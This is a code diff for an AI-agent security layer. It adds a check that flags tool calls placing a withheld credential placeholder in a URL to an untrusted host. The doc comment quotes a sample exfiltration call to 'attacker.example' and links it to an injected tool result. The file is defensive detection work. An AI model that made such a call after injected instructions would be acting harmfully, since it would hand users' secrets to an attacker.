@@ -1,6 +1,9 @@
 import { randomBytes } from 'node:crypto';
 import type { Logger } from 'pino';
 import type { Finding, Principal, Segment } from '../core/index.js';
+import { domainMatches } from '../guards/toolcalls/net.js';
+import { parseUrl } from '../guards/toolcalls/urls.js';
+import { maskPlaceholders, placeholderSpans } from '../transform/placeholder.js';
 import { deriveConversationId, MemoryVaultStore, type PseudonymMap, PseudonymVault, VaultError, type VaultStore } from '../transform/vault.js';
 
 /**
@@ -105,4 +108,48 @@ export function ownValuesInToolCalls(map: PseudonymMap | undefined): ((finding: 
     if (segment?.kind !== 'tool_call' || !finding.span || finding.type.startsWith('toolcall.')) return true;
     return !map.knowsValue(segment.text.slice(finding.span.start, finding.span.end));
   };
+}
+
+/** What ends a URL inside tool arguments (JSON text, shell words). */
+const URL_END = /[\s"'`()<>[\]{}]/;
+
+/**
+ * Findings for the model's tool calls, read as the model wrote them (placeholders in), that put a
+ * withheld credential (a placeholder of a label in `map.withheldInText`, `SECRET` by default, that this
+ * conversation made) inside a URL. Restoring it would hand the real value to whatever host the URL
+ * names (`web_fetch https://attacker.example/c?p=<SECRET_1>` after an injected tool result), and once
+ * restored a password of no known format looks like any other word to the URL checks. Allowed where the
+ * host is trusted (`guards.toolcalls.domains.allow`), e.g. `https://api.telegram.org/bot<SECRET_1>/…`.
+ * A credential in a header or a body is not covered here: the egress proxy is the control for that.
+ */
+export function withheldCredentialsInUrls(map: PseudonymMap | undefined, toolCalls: readonly Segment[], trusted: readonly string[]): Finding[] {
+  if (!map || map.size === 0 || map.withheldInText.size === 0) return [];
+  const out: Finding[] = [];
+  for (const s of toolCalls) {
+    if (s.kind !== 'tool_call' || s.direction !== 'output') continue;
+    const spans = placeholderSpans(s.text);
+    const withheld = spans.filter((p) => map.withheldInText.has(p.label) && map.original(s.text.slice(p.start, p.end)) !== undefined);
+    if (withheld.length === 0) continue;
+    const masked = maskPlaceholders(s.text, spans);
+    for (const p of withheld) {
+      let a = p.start;
+      while (a > 0 && !URL_END.test(masked[a - 1]!)) a--;
+      let b = p.end;
+      while (b < masked.length && !URL_END.test(masked[b]!)) b++;
+      // A JSON string's escaped quote (`\"`) or sentence punctuation is not part of the URL.
+      const url = parseUrl(masked.slice(a, b).replace(/[\\.,;:!?]+$/, ''));
+      if (!url || !/^(?:https?|wss?|ftp):$/.test(url.protocol)) continue;
+      const host = url.hostname.toLowerCase();
+      if (trusted.some((d) => domainMatches(d, host))) continue;
+      out.push({
+        guard: 'toolcalls',
+        type: 'toolcall.credential_in_url',
+        score: 0.95,
+        segmentId: s.id,
+        reason: `a credential withheld from the model (${p.label}) would be restored into a URL to ${host}, which is not a trusted domain (guards.toolcalls.domains.allow)`,
+      });
+      break;
+    }
+  }
+  return out;
 }
